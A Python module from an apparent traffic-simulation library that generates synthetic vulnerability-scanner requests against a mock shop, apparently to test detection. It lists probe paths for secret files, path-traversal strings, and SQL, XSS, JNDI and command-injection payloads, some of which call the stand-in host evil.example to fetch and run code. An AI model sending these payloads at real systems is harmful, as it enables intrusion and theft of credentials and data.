"""Vulnerability probes: requests for what a shop never has, and values that no form sends."""

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

from riskengine.records.lines import RequestLine
from riskengine.simulation import shop
from riskengine.simulation.addresses import draw_hosted, draw_listed, draw_rented
from riskengine.simulation.agents import Agent, always
from riskengine.simulation.browsers import draw_browser
from riskengine.simulation.population import Entrance
from riskengine.simulation.programs import draw_library, draw_pretender
from riskengine.simulation.shop import Ask

_FILES = (
    "/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.svn/entries",
    "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/phpinfo.php", "/config.php.bak",
    "/backup.sql", "/dump.zip", "/server-status", "/actuator/env", "/cgi-bin/status.cgi",
    "/vendor/phpunit/run.php", "/admin/config.yml", "/.ssh/id_ed25519", "/web.config", "/a.tgz",
)  # fmt: skip
_CLIMBS = ("../", "..%2f", "%2e%2e/", "..%252f", "..;/", "..\\", "%c0%ae%c0%ae/")
_TARGETS = ("etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "app/settings.py")
_VALUES = (
    "7' or 'k'='k", "0 union all select card,cvc from cards --", "9);waitfor delay '0:0:9'--",
    "1' and sleep(8)#", "<svg/onload=print(7)>", "\"><script src=//evil.example/a.js></script>",
    "javascript:fetch('//evil.example')", "${jndi:ldap://evil.example/z}", "{{41*43}}",
    "|id;uname -a", "$(curl evil.example|sh)", "php://filter/resource=index", "%00", "a\r\nX-A: 1",
    "../../../../etc/hosts", "file:///etc/hostname", "*)(uid=*",
)  # fmt: skip
_METHODS = ("TRACE", "PROPFIND", "DEBUG", "CONNECT", "PUT", "DELETE", "TRACK")
_SCANNERS = ("vuln-sweep/0.9", "Mozilla/5.0 (scan)", "zzprobe", "masscan-http/1.3", "-")


def prober(entrance: Entrance) -> Iterator[RequestLine]:
    """Tries one weakness after the other, some with patience; now and then asks for a real page."""
    rng = entrance.rng
    visitor = entrance.visitor(_address(rng), _agent(rng), keeps_cookies=rng.random() < 0.3)
    gap_s = rng.choice((0.1, 0.4, 1.5, 6.0))
    for _ in range(rng.randrange(15, 70)):
        if visitor.chance(0.12):
            yield visitor.send(rng.choice((shop.home(), shop.file("robots.txt"), shop.cart())))
        else:
            probe = rng.choices(_PROBES, _WEIGHTS)[0](rng)
            yield visitor.send(probe, status=rng.choice((400, 403, 404, 404, 404)))
        visitor.think(gap_s, 0.5)


def _file(rng: random.Random) -> Ask:
    path = rng.choice(_FILES)
    return _ask(rng.choice((path, path, f"/static{path}", f"/{path}", path.upper())))


def _climb(rng: random.Random) -> Ask:
    start = rng.choice(("/static/", "/images/", "/category/", "/"))
    return _ask(start + rng.choice(_CLIMBS) * rng.randrange(2, 8) + rng.choice(_TARGETS))


def _value(rng: random.Random) -> Ask:
    """An attack in a parameter that the shop has."""
    value = quote(rng.choice(_VALUES), safe=rng.choice(("", "'()/;")))
    path, name = rng.choice(
        (
            ("/search", "q"),
            ("/category/lamps", "sort"),
            ("/category/beds", "page"),
            ("/api/suggest", "q"),
        )
    )
    return _ask(path, f"{name}={value}")


def _identifier(rng: random.Random) -> Ask:
    """An attack where a number belongs."""
    return _ask(f"/products/{quote(rng.choice(_VALUES), safe='')}")


def _broken(rng: random.Random) -> Ask:
    """Control characters and encodings that no browser makes."""
    path = rng.choice(
        ("/search\x00.jpg", "/%00", "/products/%zz", "/cart%", "/\x07bell", "/%ff%fe")
    )
    return _ask(path, rng.choice(("", "q=%", "q=%u0027", "a=\x01", "page=%f0%28%8c%28")))


def _method(rng: random.Random) -> Ask:
    return _ask(rng.choice(("/", "/account", "/products/1000")))._replace(
        method=rng.choice(_METHODS)
    )


def _body(rng: random.Random) -> Ask:
    """A cart that is none."""
    worth = rng.choice(('"1 or 1=1"', "-7", "1e99", "NaN", "[[[[]]]]", '{"$gt":0}'))
    body = f'{{"product_id":{worth},"quantity":{rng.choice(("1", "-1", "99999999"))}}}'
    return shop.add_to_cart(1)._replace(route="missing", body=body)


def _ask(path: str, query: str = "") -> Ask:
    return Ask("missing", path, query)


def _address(rng: random.Random) -> str:
    return rng.choices((draw_hosted, draw_listed, draw_rented), (5, 2, 3))[0](rng)


def _agent(rng: random.Random) -> Agent:
    if rng.random() < 0.3:
        return always("1.1", ("user-agent", rng.choice(_SCANNERS)), ("accept", "*/*"))
    return rng.choice((draw_library, draw_pretender, draw_browser))(rng)


_MIX: dict[Callable[[random.Random], Ask], int] = {
    _file: 38, _climb: 16, _value: 20, _identifier: 8, _broken: 8, _method: 5, _body: 5,
}  # fmt: skip
_PROBES = tuple(_MIX)
_WEIGHTS = tuple(_MIX.values())
